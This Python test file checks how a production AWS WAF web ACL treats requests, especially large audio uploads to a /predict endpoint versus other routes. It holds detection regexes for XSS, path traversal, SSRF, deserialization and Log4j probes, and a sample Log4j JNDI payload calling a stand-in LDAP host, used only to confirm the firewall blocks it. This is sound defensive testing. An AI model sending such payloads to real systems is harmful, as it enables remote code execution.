"""What prod's web ACL does to a request, read from the synthesized rules.

No emulator runs WAF, so these tests evaluate the synthesized web ACL themselves: the rules in priority
order, the statements the stack uses (labels, and/not, URI path, a header regex, the rate limit), and the
managed groups modelled by the one behaviour that matters here (AWSManagedRulesCommonRuleSet's
SizeRestrictions_BODY labels a body over 8 KB). A 4 MB audio upload to /predict is the case that broke.
"""

from __future__ import annotations

import json
import random
import re
from dataclasses import dataclass, field
from typing import Any

import pytest

from config.environments import PROD
from inference.config import load_config
from infra_constructs.web_acl import (
    BODY_INSPECTION_LIMIT,
    BODY_PATTERN_LABELS,
    BODY_RULES,
    NO_USER_AGENT_LABEL,
    OVERSIZE_BODY_LABEL,
    integer_above_pattern,
)
from tests.support.stacks import Stack, one_resource

COMMON_SET_BODY_LIMIT = 8 * 1024
"""What SizeRestrictions_BODY allows (AWS's documentation of the common rule set)."""
SYNC_LIMIT = load_config(environ={}).audio.max_upload_bytes


@dataclass(frozen=True)
class Request:
    path: str
    body_bytes: int = 0
    headers: dict[str, str | None] = field(default_factory=dict)
    """None removes a header the evaluator would otherwise send (Content-Length, User-Agent)."""
    managed_labels: tuple[str, ...] = ()
    """Labels other managed rules would add (an XSS pattern, a Log4j probe ...)."""
    over_rate: bool = False


@dataclass(frozen=True)
class Verdict:
    allowed: bool
    status: int | None = None
    body: dict[str, Any] | None = None
    rule: str | None = None


def evaluate(acl: dict[str, Any], request: Request) -> Verdict:
    labels: set[str] = set()
    sent: dict[str, str | None] = {
        "content-length": str(request.body_bytes),
        "user-agent": "test-client/1.0",
        **{k.lower(): v for k, v in request.headers.items()},
    }
    headers = {k: v for k, v in sent.items() if v is not None}
    bodies = {b["key"]: json.loads(b["content"]) for b in acl.get("custom_response_body", [])}
    for rule in sorted(acl["rule"], key=lambda r: r["priority"]):
        statement = rule["statement"]
        if "managed_rule_group_statement" in statement:
            group_spec = statement["managed_rule_group_statement"]
            group = group_spec["name"]
            matched = set(request.managed_labels)
            if group == "AWSManagedRulesCommonRuleSet" and request.body_bytes > COMMON_SET_BODY_LIMIT:
                matched.add(OVERSIZE_BODY_LABEL)
            if group == "AWSManagedRulesCommonRuleSet" and not headers.get("user-agent"):
                matched.add(NO_USER_AGENT_LABEL)
            prefix = {
                "AWSManagedRulesCommonRuleSet": "awswaf:managed:aws:core-rule-set:",
                "AWSManagedRulesKnownBadInputsRuleSet": "awswaf:managed:aws:known-bad-inputs:",
            }[group]
            matched = {label for label in matched if label.startswith(prefix)}
            labels |= matched
            counted = {
                o["name"].lower() for o in group_spec.get("rule_action_override", []) if "count" in o["action_to_use"]
            }
            blocking = {label for label in matched if label.rsplit(":", 1)[-1].lower() not in counted}
            if blocking and rule["override_action"] == {"none": {}}:
                return Verdict(allowed=False, status=403, rule=rule["name"])  # WAF's own 403
            continue
        if _matches(statement, request, headers, labels):
            block = rule["action"]["block"]
            custom = block["custom_response"]
            return Verdict(
                allowed=False,
                status=custom["response_code"],
                body=bodies[custom["custom_response_body_key"]],
                rule=rule["name"],
            )
    assert acl["default_action"] == {"allow": {}}
    return Verdict(allowed=True)


def _matches(statement: dict[str, Any], request: Request, headers: dict[str, str], labels: set[str]) -> bool:
    ((kind, spec),) = statement.items()
    if kind == "and_statement":
        return all(_matches(s, request, headers, labels) for s in spec["statement"])
    if kind == "or_statement":
        return any(_matches(s, request, headers, labels) for s in spec["statement"])
    if kind == "not_statement":
        (inner,) = spec["statement"]
        return not _matches(inner, request, headers, labels)
    if kind == "label_match_statement":
        if spec["scope"] == "NAMESPACE":
            return any(label.startswith(spec["key"]) for label in labels)
        return spec["key"] in labels
    if kind == "rate_based_statement":
        return request.over_rate
    if kind == "byte_match_statement":
        assert spec["field_to_match"] == {"uri_path": {}} and spec["positional_constraint"] == "ENDS_WITH"
        return request.path.endswith(spec["search_string"])
    if kind == "size_constraint_statement":
        (header,) = [spec["field_to_match"]["single_header"]["name"]]
        assert spec["comparison_operator"] == "GT"
        return header in headers and len(headers[header]) > spec["size"]  # a missing header matches nothing
    if kind == "regex_match_statement":
        (header,) = [spec["field_to_match"]["single_header"]["name"]]
        return re.search(spec["regex_string"], headers.get(header, "")) is not None
    raise AssertionError(f"the evaluator does not know {kind}: teach it before using it in the web ACL")


@pytest.fixture(scope="module")
def acl(stacks: dict[str, Stack]) -> dict[str, Any]:
    return one_resource(stacks["inference-prod"], "aws_wafv2_web_acl")


def test_the_body_rules_and_no_user_agent_only_count(acl):
    groups = {r["name"]: r for r in acl["rule"] if "managed_rule_group_statement" in r["statement"]}
    for group, body_rules in BODY_RULES.items():
        assert groups[group]["override_action"] == {"none": {}}  # the group's other rules still block
        counted = {
            o["name"] for o in groups[group]["statement"]["managed_rule_group_statement"]["rule_action_override"]
        }
        assert set(body_rules) <= counted
        assert counted - set(body_rules) <= {"NoUserAgent_HEADER"}


def test_sampled_requests_are_off_and_the_body_inspection_limit_is_set(acl):
    """A sampled request keeps every header, the API key included; the log's redaction does not reach it."""
    assert acl["visibility_config"]["sampled_requests_enabled"] is False
    assert all(rule["visibility_config"]["sampled_requests_enabled"] is False for rule in acl["rule"])
    (body,) = acl["association_config"]["request_body"]
    assert body["api_gateway"]["default_size_inspection_limit"] == BODY_INSPECTION_LIMIT == "KB_16"


def test_a_4_mb_audio_upload_to_predict_passes_although_the_common_set_labels_it_oversize(acl):
    request = Request(path="/v1/predict", body_bytes=4_000_000, headers={"content-type": "multipart/form-data"})
    assert request.body_bytes > COMMON_SET_BODY_LIMIT
    assert evaluate(acl, request) == Verdict(allowed=True)
    assert evaluate(acl, Request(path="/v1/predict", body_bytes=SYNC_LIMIT)).allowed


def test_a_predict_body_over_the_services_limit_is_a_413_in_the_services_shape(acl):
    verdict = evaluate(acl, Request(path="/v1/predict", body_bytes=SYNC_LIMIT + 1))
    assert verdict.status == 413 and verdict.rule == "predict-body-over-limit"
    assert verdict.body is not None
    assert verdict.body["error"]["code"] == "payload_too_large"
    assert f"{SYNC_LIMIT:,}" in verdict.body["error"]["message"] and "/jobs" in verdict.body["error"]["message"]


def test_other_routes_keep_the_8_kb_body_limit(acl):
    verdict = evaluate(acl, Request(path="/v1/jobs", body_bytes=COMMON_SET_BODY_LIMIT + 1))
    assert (verdict.status, verdict.rule) == (413, "oversize-body")
    assert evaluate(acl, Request(path="/v1/jobs", body_bytes=300)).allowed


def test_the_common_rule_set_still_blocks_attacks_on_every_route_predict_included(acl):
    for path, body_bytes in (("/v1/health", 0), ("/v1/predict", 4_000_000)):
        xss = Request(
            path=path,
            body_bytes=body_bytes,
            managed_labels=("awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments",),
        )
        assert evaluate(acl, xss) == Verdict(allowed=False, status=403, rule="AWSManagedRulesCommonRuleSet")


def test_known_bad_inputs_in_headers_block_even_on_predict(acl):
    log4j = Request(
        path="/v1/predict",
        body_bytes=4_000_000,
        managed_labels=("awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header",),
    )
    assert evaluate(acl, log4j) == Verdict(allowed=False, status=403, rule="AWSManagedRulesKnownBadInputsRuleSet")


@pytest.mark.parametrize("label", BODY_PATTERN_LABELS)
def test_a_body_pattern_counts_on_predict_and_blocks_elsewhere_in_the_error_shape(acl, label):
    """Compressed audio matches text patterns by chance in its first 16 KB: on /predict a body label only
    counts; on every other route the same label is a 403 in the service's error shape."""
    assert evaluate(acl, Request(path="/v1/predict", body_bytes=4_000_000, managed_labels=(label,))).allowed
    verdict = evaluate(acl, Request(path="/v1/jobs", body_bytes=300, managed_labels=(label,)))
    assert (verdict.status, verdict.rule) == (403, "body-pattern-off-predict")
    assert verdict.body is not None and verdict.body["error"]["code"] == "forbidden"


def test_no_user_agent_is_allowed_with_an_api_key_and_blocked_without(acl):
    keyed = Request(path="/v1/jobs", body_bytes=300, headers={"user-agent": None, "x-api-key": "k"})
    assert evaluate(acl, keyed).allowed
    unkeyed = evaluate(acl, Request(path="/v1/health", headers={"user-agent": None}))
    assert (unkeyed.status, unkeyed.rule) == (403, "no-user-agent-unkeyed")


def test_a_predict_without_content_length_is_411(acl):
    """The size rule reads Content-Length: a chunked body without it cannot slip past."""
    verdict = evaluate(acl, Request(path="/v1/predict", body_bytes=5_000_000, headers={"content-length": None}))
    assert (verdict.status, verdict.rule) == (411, "predict-length-required")


def test_the_rate_limit_answers_429_throttled_and_is_not_below_the_usage_plan(acl):
    verdict = evaluate(acl, Request(path="/v1/predict", body_bytes=1000, over_rate=True))
    assert verdict.status == 429 and verdict.body is not None and verdict.body["error"]["code"] == "throttled"
    (rate,) = [r for r in acl["rule"] if "rate_based_statement" in r["statement"]]
    assert rate["statement"]["rate_based_statement"]["limit"] >= PROD.api.throttle_rate_limit * 300


def test_every_waf_answer_is_json_in_the_error_shape(acl):
    for body in acl["custom_response_body"]:
        assert body["content_type"] == "APPLICATION_JSON"
        error = json.loads(body["content"])["error"]
        assert set(error) == {"code", "message", "request_id"} and error["message"]


def test_waf_logs_redact_the_api_key(stacks):
    logging = one_resource(stacks["inference-prod"], "aws_wafv2_web_acl_logging_configuration")
    assert {"single_header": {"name": "x-api-key"}} in logging["redacted_fields"]


@pytest.mark.parametrize("limit", [0, 1, 8, 9, 10, 99, 100, 4_500_000, 4_499_999, 8_999_999, 10_485_760])
def test_integer_above_pattern_matches_exactly_the_larger_integers(limit):
    pattern = re.compile(integer_above_pattern(limit))
    rng = random.Random(limit)
    candidates = {0, 1, limit - 1, limit, limit + 1, limit * 10, limit + 10, 10 ** len(str(limit))}
    candidates |= {rng.randrange(0, 2 * limit + 20) for _ in range(2000)}
    for value in (c for c in candidates if c >= 0):
        for text in (str(value), f"00{value}"):
            assert bool(pattern.search(text)) == (value > limit), (limit, text)
    for text in ("", "abc", f"{limit + 1}x", f"-{limit + 1}", f" {limit + 1}"):
        assert not pattern.search(text), text


# Approximations of the pattern families AWS documents for the counted body rules (its exact expressions
# are not published). Applied to the inspected part of a body, they show what a real upload's bytes can
# look like to a text rule, and that a JSON attack on another route is still caught.
BODY_PATTERNS = {
    "awswaf:managed:aws:core-rule-set:CrossSiteScripting_Body": rb"(?i)<\s*script|javascript:|on(error|load)\s*=",
    "awswaf:managed:aws:core-rule-set:GenericLFI_Body": rb"\.\./|\.\.\\\\|/etc/passwd",
    "awswaf:managed:aws:core-rule-set:GenericRFI_Body": rb"(?i)(https?|ftp)://\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}",
    "awswaf:managed:aws:core-rule-set:EC2MetaDataSSRF_Body": rb"169\.254\.169\.254",
    "awswaf:managed:aws:known-bad-inputs:JavaDeserializationRCE_Body": rb"rO0AB|\xac\xed\x00\x05",
    "awswaf:managed:aws:known-bad-inputs:Log4JRCE_Body": rb"(?i)\$\{\s*jndi\s*:",
}
INSPECTED_BYTES = 16 * 1024


def body_labels(body: bytes) -> tuple[str, ...]:
    inspected = body[:INSPECTED_BYTES]
    return tuple(label for label, pattern in BODY_PATTERNS.items() if re.search(pattern, inspected))


def multipart_upload(audio: bytes, filename: str, content_type: str) -> bytes:
    boundary = b"----audio-inference-waf"
    return (
        b"--" + boundary + b'\r\nContent-Disposition: form-data; name="file"; filename="' + filename.encode() + b'"\r\n'
        b"Content-Type: " + content_type.encode() + b"\r\n\r\n" + audio + b"\r\n--" + boundary + b"--\r\n"
    )


def real_uploads() -> dict[str, bytes]:
    """FLAC, MP3 and Ogg/Vorbis of rendered music with noise: compressed bytes, as users send."""
    import io

    import numpy as np
    import soundfile as sf

    from inference.testing import signals

    seconds, rate = 20.0, 44100
    music = signals.render(signals.piece(5, seconds), rate, seconds, seed=5)
    noise = np.random.default_rng(5).standard_normal(music.shape).astype(np.float32) * 0.05
    stereo = np.stack([music + noise, music * 0.8 - noise], axis=1)
    uploads = {}
    for name, fmt, subtype, kind in (
        ("take.flac", "FLAC", None, "audio/flac"),
        ("take.mp3", "MP3", "MPEG_LAYER_III", "audio/mpeg"),
        ("take.ogg", "OGG", "VORBIS", "audio/ogg"),
    ):
        buffer = io.BytesIO()
        with sf.SoundFile(buffer, "w", rate, 2, format=fmt, subtype=subtype) as out:
            for start in range(0, len(stereo), 8192):
                out.write(stereo[start : start + 8192])
        uploads[name] = multipart_upload(buffer.getvalue(), name, kind)
    return uploads


def test_real_compressed_uploads_pass_every_rule_on_predict_whatever_their_bytes_match(acl):
    """The inspected 16 KB of real FLAC, MP3 and Ogg uploads, evaluated through every rule: whatever body
    pattern their bytes happen to match, /predict lets them through (even with every body label at once);
    the same bytes on another route are refused by size or pattern, never silently."""
    for name, body in real_uploads().items():
        size = len(body)
        assert COMMON_SET_BODY_LIMIT < size <= SYNC_LIMIT, (name, size)
        labels = body_labels(body)
        upload = Request(path="/v1/predict", body_bytes=size, managed_labels=labels)
        assert evaluate(acl, upload) == Verdict(allowed=True), (name, labels)
        everything = Request(path="/v1/predict", body_bytes=size, managed_labels=BODY_PATTERN_LABELS)
        assert evaluate(acl, everything) == Verdict(allowed=True), name
        elsewhere = evaluate(acl, Request(path="/v1/jobs", body_bytes=size, managed_labels=labels))
        assert elsewhere.status in (403, 413) and elsewhere.body is not None, name


def test_a_small_json_body_with_a_known_bad_pattern_is_still_blocked_on_jobs(acl):
    body = json.dumps({"filename": "${jndi:ldap://198.51.100.7/a}.mp3", "content_type": "audio/mpeg"}).encode()
    labels = body_labels(body)
    assert "awswaf:managed:aws:known-bad-inputs:Log4JRCE_Body" in labels
    verdict = evaluate(acl, Request(path="/v1/jobs", body_bytes=len(body), managed_labels=labels))
    assert (verdict.status, verdict.rule) == (403, "body-pattern-off-predict")
    assert verdict.body is not None and verdict.body["error"]["code"] == "forbidden"
